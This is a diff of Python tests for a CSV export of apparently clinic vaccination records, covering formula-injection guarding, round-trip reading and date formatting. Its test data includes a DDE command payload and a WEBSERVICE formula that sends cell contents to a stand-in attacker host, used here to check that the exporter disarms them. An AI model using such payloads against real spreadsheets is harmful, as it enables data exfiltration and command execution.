@@ -46,7 +46,12 @@ async def test_the_reader_takes_the_file_again_unchanged() -> None:
 
 def test_no_cell_runs_as_a_formula() -> None:
     answers = [Answered(raw, "rejected", (), "=cmd|' /C calc'!A0") for raw in HARD]
-    assert [cell for line in cells(header() + written(answers)) for cell in line if cell[:1] in tuple("=+-@")] == []
+    assert [
+        cell
+        for line in cells(header() + written(answers))
+        for cell in line
+        if cell[:1] in tuple("=+-@")
+    ] == []
 
 
 # what separates, what hides a sign, signs, and a letter
@@ -60,9 +65,18 @@ def test_the_guard_is_taken_off_exactly(text: str) -> None:
 
 
 @given(piece, piece)
-def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(name: str, lot: str) -> None:
-    text = written([Answered(typed(source_id=name, full_name=name, lot=lot), "rejected", (), name)]).decode()
-    assert [cell for line in cells(text.encode()) for cell in line if cell.strip(' "\u00a0\u3000').startswith(SIGNS)] == []
+def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(
+    name: str, lot: str
+) -> None:
+    text = written(
+        [Answered(typed(source_id=name, full_name=name, lot=lot), "rejected", (), name)]
+    ).decode()
+    assert [
+        cell
+        for line in cells(text.encode())
+        for cell in line
+        if cell.strip(' "\u00a0\u3000').startswith(SIGNS)
+    ] == []
     # with another separator, or none that knows of quotation marks
     for separator in ",;\t":
         pieces = re.split(rf"[{separator}\r\n]", text)
@@ -72,28 +86,42 @@ def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(n
 @given(piece, piece)
 async def test_a_file_that_was_guarded_is_read_as_it_was(name: str, lot: str) -> None:
     raw = typed(full_name=name.strip(), lot=lot.strip())
-    assert [row.raw for row in await read(header() + written([Answered(raw, "rejected", (), name)]))] == [raw]
+    assert [
+        row.raw for row in await read(header() + written([Answered(raw, "rejected", (), name)]))
+    ] == [raw]
 
 
 def test_a_formula_behind_another_separator_is_disarmed() -> None:
     name = "Lê A;http://evil.example/?x=;=WEBSERVICE(B2&A2)"
-    assert cells(written([Answered(typed(full_name=name), "cần sửa")]))[0][1] == "Lê A;http://evil.example/?x=;'=WEBSERVICE(B2&A2)"
+    assert (
+        cells(written([Answered(typed(full_name=name), "cần sửa")]))[0][1]
+        == "Lê A;http://evil.example/?x=;'=WEBSERVICE(B2&A2)"
+    )
 
 
 def test_the_answer_stands_behind_the_row() -> None:
-    errors = (RowError("lot", "LOT_MISSING", "Thiếu số lô.", "x"), RowError("", "X", "Dòng hỏng.", "x"))
-    (head, line) = cells(header() + written([Answered(typed(), "rejected", errors, "068180000002", "3", "501")]))
+    errors = (
+        RowError("lot", "LOT_MISSING", "Thiếu số lô.", "x"),
+        RowError("", "X", "Dòng hỏng.", "x"),
+    )
+    head, line = cells(
+        header() + written([Answered(typed(), "rejected", errors, "068180000002", "3", "501")])
+    )
     assert head == [*HEADERS.values(), *ANSWER_HEADERS, VERSION, DOSE_ID] == [
         *head[:-5], "Trạng thái", "Lỗi", "Gợi ý", "Phiên bản bản ghi", "Mã hệ thống",
     ]  # fmt: skip
     assert line[-5:] == ["rejected", "Số lô: Thiếu số lô.; Dòng hỏng.", "068180000002", "3", "501"]
 
 
-@pytest.mark.parametrize(("cells_left", "version", "dose_id"), [(5, "3", "501"), (4, "3", ""), (3, "", ""), (0, "", "")])
+@pytest.mark.parametrize(
+    ("cells_left", "version", "dose_id"), [(5, "3", "501"), (4, "3", ""), (3, "", ""), (0, "", "")]
+)
 async def test_the_version_is_read_back_and_a_spreadsheet_may_have_cut_it_off_with_the_answer(
     cells_left: int, version: str, dose_id: str
 ) -> None:
-    head, line = cells(header() + written([Answered(typed(), "cần sửa", version=" 3 ", dose_id="501")]))
+    head, line = cells(
+        header() + written([Answered(typed(), "cần sửa", version=" 3 ", dose_id="501")])
+    )
     text = io.StringIO(newline="")
     csv.writer(text).writerows([head, line[: len(HEADERS) + cells_left]])
     [row] = await read(text.getvalue().encode())
@@ -118,10 +146,13 @@ async def test_an_apostrophe_that_a_clinic_typed_before_a_formula_is_taken_off_o
 
 @pytest.mark.parametrize(
     ("birth", "written_birth"),
-    [("03/05/1980", "1980-05-03"), ("5-3-1980", "1980-03-05"), ("05/1970", "1970-05"), ("1970", "1970"), ("30/02/1950", "30/02/1950"),
+    [("03/05/1980", "1980-05-03"), ("5-3-1980", "1980-03-05"), ("05/1970", "1970-05"), ("1970",
+    "1970"), ("30/02/1950", "30/02/1950"),
      ("", ""), ("**/**/1980", "**/**/1980"), ("3/5/80", "3/5/80")],
 )  # fmt: skip
-def test_dates_go_out_as_every_spreadsheet_reads_them_and_what_is_no_date_as_typed(birth: str, written_birth: str) -> None:
+def test_dates_go_out_as_every_spreadsheet_reads_them_and_what_is_no_date_as_typed(
+    birth: str, written_birth: str
+) -> None:
     [line] = cells(written([Answered(day_first(date_of_birth=birth, date_given="05.10.2021"), "")]))
     assert (line[2], line[list(HEADERS).index("date_given")]) == (written_birth, "2021-10-05")
 
